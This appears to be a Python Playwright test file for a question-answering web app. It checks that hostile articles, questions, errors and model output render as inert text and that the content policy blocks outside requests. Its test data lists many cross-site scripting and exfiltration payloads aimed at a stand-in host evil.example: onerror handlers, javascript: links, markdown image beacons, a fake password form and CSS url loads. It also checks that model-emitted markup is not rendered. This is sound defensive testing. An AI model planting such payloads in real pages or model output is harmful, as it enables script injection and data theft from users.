"""Articles, questions and answers made of markup: inert, and nothing leaves the machine.

FAULTS 43, 47, 50; TRAPS 18, 22. The context's own check fails a test for any foreign request, any
script error and anything the content policy had to block.
"""

from __future__ import annotations

import time
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from qa_app.contract import AnswerSentence, Conflict, ConflictValue
from tests.browser.conftest import Watched, ask
from tests.browser.tabs import leave, opened, running
from tests.fakes import ScriptedModel
from tests.generation.build import GAVE, QUESTION, written_by
from tests.web.fake_assistant import FakeAssistant, Written, nothing, said
from tests.web.live import HOSTILE
from vectorstore.errors import StoreError

pytestmark = pytest.mark.browser
WORDS = "\n".join(HOSTILE[:-1])
SOURCE = "evil/<img src=http://evil.example/n.png onerror=window.hurt=1> [1] \" '.md"
BUILT = "#qa-main :is(script, img, iframe, svg image, form, a, style)"


@pytest.fixture
def evil(page: Page, assistant: FakeAssistant) -> FakeAssistant:
    assistant.put(SOURCE, Written(WORDS, WORDS, "<b>2024</b>", WORDS))
    page.reload()
    page.wait_for_selector(".welcome")
    return assistant


def unhurt(page: Page) -> None:
    assert page.evaluate("window.hurt") is None
    assert page.locator(BUILT).count() == 0


def test_a_hostile_article_is_read_as_text(page: Page, evil: FakeAssistant) -> None:
    expect(page.locator(".entry")).to_have_count(3)
    unhurt(page)
    citation = evil.cite(1, SOURCE, WORDS)
    evil.queue.append(
        said(
            citation,
            searched=WORDS,
            conflicts=(Conflict(WORDS, (ConflictValue(WORDS, 1),)),),
            mode="model",
            model=WORDS,
        )
    )
    ask(page, "{{ value }} ${window.hurt = 1} <img src=x onerror=window.hurt=1>")
    unhurt(page)
    assert page.locator(".marker").count() == 3, 'no marker is made of the fake "[1]"'
    page.locator(".marker").first.click()
    expect(page.locator("mark#quote")).to_be_visible()
    pieces = page.locator("mark.chosen").evaluate_all("all => all.map(one => one.textContent)")
    assert "".join(pieces) == WORDS
    expect(page.locator("#qa-panel .path")).to_have_text(SOURCE)
    unhurt(page)


EMITTED = (
    "![boats](http://evil.example/a.png?q=six) came.",
    "![boats][r] came.\n\n[r]: http://evil.example/b.png",
    "[![boats](http://evil.example/c.png)](javascript:window.hurt=1) came.",
    "<img src=http://evil.example/d.png onerror=window.hurt=1> came.",
    "<script>window.hurt = 1</script> came.",
    "<svg onload=window.hurt=1><image href=http://evil.example/e.png /></svg> came.",
    "```mermaid\ngraph TD; A-->B; click A javascript:window.hurt=1\n```",
    "[Six boats](javascript:window.hurt=1) came.",
    "<a href=javascript:window.hurt=1>Six boats</a> came.",
    "<form action=http://evil.example><input name=password><button>Log in</button></form> came.",
    "<iframe src=http://evil.example></iframe><video poster=http://evil.example/f></video> came.",
    "<div style='background: url(http://evil.example/g)'>Six boats</div> came.",
)


def test_row_50_what_a_model_emits_is_text_even_if_nothing_had_checked_it(
    page: Page, assistant: FakeAssistant, watched: Watched
) -> None:
    cited = assistant.cite(1, "vessels.md", "Delivery was planned for 2025.")
    answer = said(cited, mode="model", model="some:model", answer="\n".join(EMITTED))
    sentences = tuple(AnswerSentence(words, (1,), "supported") for words in EMITTED)
    assistant.queue.append(replace(answer, sentences=sentences))
    assistant.before_each = lambda: time.sleep(0.05)  # so that each is shown by itself
    ask(page, "How many boats?")
    shown = page.locator(".said").text_content() or ""
    for words in EMITTED:
        assert " ".join(words.split()) in " ".join(shown.split())
    unhurt(page)
    page.locator(".said .marker").first.click()
    expect(page.locator("mark#quote")).to_be_visible()
    unhurt(page)
    assert watched.foreign() == []


def test_row_50_a_model_that_emits_it_is_not_shown(
    context: BrowserContext, tmp_path: Path, watched: Watched
) -> None:
    text = f"{GAVE} [1] " + " [1]\n\n".join(EMITTED)
    model = ScriptedModel([text[at : at + 7] for at in range(0, len(text), 7)])
    with written_by(tmp_path, model) as real, running(real) as address:
        page = opened(context, address)
        ask(page, QUESTION)
        expect(page.locator(".said .sentence")).to_have_count(1)
        expect(page.locator(".said")).to_contain_text(GAVE)
        assert "evil" not in (page.locator(".exchange").text_content() or "")
        unhurt(page)
        leave(context)
    assert model.history
    assert watched.foreign() == []


def test_a_hostile_question_reason_and_error_are_text(page: Page, evil: FakeAssistant) -> None:
    evil.queue.append(nothing("", evil.cite(1, SOURCE, HOSTILE[1]), WORDS))
    ask(page, WORDS[:1_900])
    evil.queue.append(StoreError(WORDS))
    ask(page, "And an error?")
    expect(page.locator(".trouble")).to_contain_text("<script>")
    unhurt(page)


def test_a_hostile_title_in_filter_notice_and_lost_article(page: Page, evil: FakeAssistant) -> None:
    evil.queue.append(said(evil.cite(1, SOURCE, HOSTILE[0])))
    ask(page, "What?")
    page.get_by_role("button", name="All articles").click()
    page.locator(".articles > li", has_text="evil").get_by_role("checkbox").check()
    expect(page.locator(".chip")).to_contain_text("evil/<img")
    page.locator(".chip").click()
    evil.put(SOURCE, replace(evil.stored[SOURCE], text="Changed."))
    page.locator(".said .marker").click()
    expect(page.locator(".lost")).to_contain_text("has changed since")
    evil.remove(SOURCE)
    page.locator(".said .marker").click()
    expect(page.locator(".lost")).to_contain_text("no longer among")
    unhurt(page)


SLIPPED = {
    "img-src": '<img src="http://evil.example/a.png">',
    "script-src-attr": '<img src="data:image/png;base64,AA" onerror="window.hurt = 1">',
    "frame-src": '<iframe src="http://evil.example/"></iframe>',
    "media-src": '<audio src="http://evil.example/a.mp3" preload="auto"></audio>',
    "object-src": '<object data="http://evil.example/a.swf"></object>',
    "style-src-elem": '<link rel="stylesheet" href="http://evil.example/a.css">',
    "font-src": "<style>@font-face { font-family: evil; src: url(http://evil.example/f.woff) }"
    "</style><p style='font-family: evil'>words</p>",
    "script-src-elem": "",
    "connect-src": "",
    "form-action": '<form action="http://evil.example/" id="evil"><input name="a"></form>',
}
"""What each part of the policy is there to stop; two of them are no markup and made by hand."""


def test_what_slipped_through_could_still_not_run_or_load(
    page: Page, assistant: FakeAssistant, watched: Watched
) -> None:
    """The second layer by itself: the content policy, with markup put in by hand."""
    stopped = page.evaluate(
        """async ([markup, all]) => {
          const stopped = new Set();
          const note = (event) => stopped.add(event.effectiveDirective);
          document.addEventListener("securitypolicyviolation", note);
          const box = document.createElement("div");
          box.innerHTML = markup;
          document.body.append(box);
          const script = document.createElement("script");
          script.src = "http://evil.example/a.js";
          box.append(script);
          await fetch("http://evil.example/").catch(() => {});
          box.querySelector("#evil").submit();
          const late = Date.now() + 20_000;
          while (stopped.size < all && Date.now() < late)
            await new Promise((done) => setTimeout(done, 50));
          box.remove();
          return [...stopped];
        }""",
        ["".join(SLIPPED.values()), len(SLIPPED)],
    )
    assert set(stopped) == set(SLIPPED)
    assert page.evaluate("window.hurt") is None
    assert page.url.startswith("http://127.0.0.1")
    watched.complaints.clear()
    watched.requests[:] = [url for url in watched.requests if "evil.example" not in url]


def test_the_page_itself_asks_for_nothing_outside(page: Page, watched: Watched) -> None:
    """TRAPS 22: not even blocked attempts; the context's own check looks at every request."""
    ask(page, "Anything?")
    page.locator(".entry").first.click()
    page.wait_for_selector(".article-text")
    assert len(watched.requests) > 5
    assert watched.foreign() == []
